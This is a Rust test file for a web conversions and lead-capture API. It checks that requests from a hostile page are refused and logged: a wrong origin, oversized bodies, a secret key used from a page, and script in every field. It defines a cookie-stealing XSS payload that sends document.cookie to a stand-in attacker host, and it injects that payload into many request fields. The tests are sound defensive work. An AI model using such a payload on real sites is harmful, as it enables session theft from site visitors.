//! A page that means harm, and a publishable key that anybody can read: each attempt is refused clearly, and
//! shows in the log.
#![allow(clippy::unwrap_used, reason = "a test has nobody to return an error to")]

use rastro_store::DatasetSettings;
use rastro_test_support::{Answer, Key, World};
use serde_json::{Value, json};

const PAGE: &str = "https://loja.example.com.br";
const SCRIPT: &str = "<script>fetch('//evil.example?'+document.cookie)</script>";

async fn world() -> World {
    let settings = DatasetSettings {
        name: "test".into(),
        allowed_origins: vec![PAGE.into()],
        ..Default::default()
    };
    World::with(settings, |_| {}).await
}

/// A request as a page of this origin makes it.
async fn from(world: &World, origin: &str, path: &str, key: &str, body: String) -> Answer {
    let url = world.conversions_url().replace("/api/meta/conversions", path);
    let request = world
        .client
        .post(format!("{url}?key={key}"))
        .header("origin", origin);
    let request = request.header("user-agent", "Mozilla/5.0 (X11; Linux x86_64)");
    World::answer(
        request
            .header("content-type", "text/plain;charset=UTF-8")
            .body(body),
    )
    .await
}

/// What the log counts as refused, as `error_message` names it, in order of time.
async fn refused(world: &World) -> Vec<String> {
    let sql = "SELECT error_message FROM meta_events_log WHERE outcome = 'refused' ORDER BY created_at, error_message";
    world
        .database
        .query(sql)
        .await
        .into_iter()
        .flatten()
        .flatten()
        .collect()
}

#[tokio::test]
async fn what_a_hostile_page_sends_is_refused_and_counted() {
    let world = world().await;
    let (conversions, page_key) = ("/api/meta/conversions", Key::Publishable.as_str());
    let event =
        |id: usize| json!({"event_name": "Lead", "event_id": id.to_string(), "event_time": world.now()});
    let megabyte = json!({"events": [event(0)], "padding": "x".repeat(1_000_000)}).to_string();
    let many: Vec<Value> = (0..10_000).map(event).collect();
    let many = json!({ "events": many }).to_string();
    let attempts = [
        (
            from(&world, "https://evil.example", conversions, page_key, "{}".into()).await,
            403,
        ),
        (
            from(&world, PAGE, conversions, page_key, megabyte.clone()).await,
            413,
        ),
        (
            from(&world, PAGE, "/api/leads/capture", page_key, megabyte).await,
            413,
        ),
        (from(&world, PAGE, conversions, page_key, many.clone()).await, 413),
        (
            from(&world, PAGE, conversions, page_key, SCRIPT.into()).await,
            400,
        ),
        (
            from(&world, PAGE, conversions, Key::Secret.as_str(), "{}".into()).await,
            403,
        ),
    ];
    for (answer, status) in &attempts {
        assert_eq!(answer.status, *status, "{answer:?}");
        assert_eq!(answer.headers["content-type"], "application/problem+json");
        assert!(!answer.json.to_string().contains("script"), "{answer:?}");
    }
    // With a server's key they are not too many bytes, but too many events.
    let request = world
        .client
        .post(world.conversions_url())
        .bearer_auth(Key::Secret.as_str());
    let answer = World::answer(request.header("content-type", "application/json").body(many)).await;
    assert_eq!(answer.status, 413, "{answer:?}");
    assert!(
        answer.json["detail"].as_str().unwrap().contains("at most 1000"),
        "{answer:?}"
    );

    let mut told = refused(&world).await;
    told.sort();
    let expected = [
        "/Origin",
        "/Origin",
        "malformed",
        "too-large",
        "too-large",
        "too-large",
        "too-large",
    ];
    assert_eq!(told, expected);
    assert_eq!(world.census().await.accepted, 0);
}

/// An object with the script in each of these fields.
fn all(names: &[&str]) -> Value {
    names
        .iter()
        .map(|name| ((*name).to_owned(), json!(SCRIPT)))
        .collect()
}

#[tokio::test]
async fn a_script_in_every_field_is_no_event_and_comes_back_to_nobody() {
    let world = world().await;
    let fields = [
        "event_name",
        "event_id",
        "event_time",
        "action_source",
        "event_source_url",
        "referrer_url",
    ];
    let people = [
        "em",
        "ph",
        "fn",
        "ln",
        "ge",
        "db",
        "ct",
        "st",
        "zp",
        "country",
        "external_id",
        "fbc",
        "fbp",
    ];
    let mut event = all(&fields);
    event["user_data"] = all(&people);
    event["custom_data"] = all(&["value", "currency", "content_name", "order_id", SCRIPT]);
    let lead = all(&["name", "email", "phone", "message", "cpf", SCRIPT]);
    for (path, body) in [
        ("/api/meta/conversions", event.clone()),
        ("/api/leads/capture", json!({"lead": lead, "event": event})),
        (
            "/api/purchases/record",
            json!({"purchase": all(&["order_id", "value", "currency", "status"]), "event": event}),
        ),
    ] {
        let answer = from(&world, PAGE, path, Key::Publishable.as_str(), body.to_string()).await;
        assert_eq!(answer.status, 422, "{path}: {answer:?}");
        assert_eq!(answer.headers["content-type"], "application/problem+json");
        assert!(!answer.json["errors"].as_array().unwrap().is_empty());
        assert!(
            !answer.json.to_string().contains("evil.example"),
            "{path}: {answer:?}"
        );
    }
    assert_eq!(refused(&world).await.len(), 3);
    assert_eq!(world.census().await.accepted, 0);
}
